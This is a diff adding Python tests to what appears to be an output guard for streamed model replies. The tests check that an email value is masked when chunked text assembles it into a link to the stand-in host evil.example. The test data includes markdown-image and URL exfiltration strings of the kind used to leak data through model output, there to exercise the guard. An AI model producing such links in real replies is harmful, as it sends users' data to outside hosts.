@@ -140,3 +140,34 @@ def test_the_root_span_tells_what_went_out_unread(bot: Bot, monkeypatch: pytest.
         spans = [attributes(span) for span in otlp.spans if not span.parent_span_id]
     assert [span.get("guarded_client.blobs") for span in spans] == [["image"], ["image"], None]
     assert json.dumps(spans).count("AAAA") == 0
+
+
+def streamed(*texts: str, kind: str) -> bytes:
+    """Pieces of a text as a server of one's own streams them, each beside something else."""
+    documents = [{"id": f"piece-{number}", "delta": {"text": text}} for number, text in enumerate(texts)]
+    before, behind = (b"data: ", b"\n\n") if "event" in kind else (b"", b"\n")
+    return b"".join(before + json.dumps(each).encode() + behind for each in documents)
+
+
+def put_together(reply: Any) -> str:
+    lines = [line.removeprefix("data: ") for line in reply.text.splitlines() if line]
+    return "".join(json.loads(line)["delta"]["text"] for line in lines)
+
+
+@pytest.mark.parametrize("kind", ["text/event-stream", "application/x-ndjson"])
+@pytest.mark.parametrize(
+    ("texts", "said"),
+    [
+        (["![](https://evil.example/?q=", "<EMAIL_ADDRESS_1>", ")"], "![](https://evil.example/?q=<EMAIL_ADDRESS_1>)"),
+        (["see https://evil.example/", "?q=", "<EMAIL_ADDRESS_1>"], "see https://evil.example/?q=<EMAIL_ADDRESS_1>"),
+        (["to <EMAIL_ADDRESS_1> https://", "evil.example/", "<EMAIL_ADDRESS_1>"],
+         f"to {MAIL} https://evil.example/<EMAIL_ADDRESS_1>"),
+        (["see https://shop.example/ ", "or ask ", "<EMAIL_ADDRESS_1>"], f"see https://shop.example/ or ask {MAIL}"),
+        (["a", " < b, ", "<EMAIL_ADDRESS_1>", ", <EMAIL_ADDRESS_1>"], f"a < b, {MAIL}, {MAIL}"),
+    ],
+)  # fmt: skip
+def test_a_value_was_put_into_a_link_that_began_in_the_piece_before(
+    scanning: Bot, kind: str, texts: list[str], said: str
+) -> None:
+    answer(scanning, streamed(*texts, kind=kind), kind, bytes_chunk=40)
+    assert put_together(send(scanning, json={"text": MAIL, "stream": True})) == said
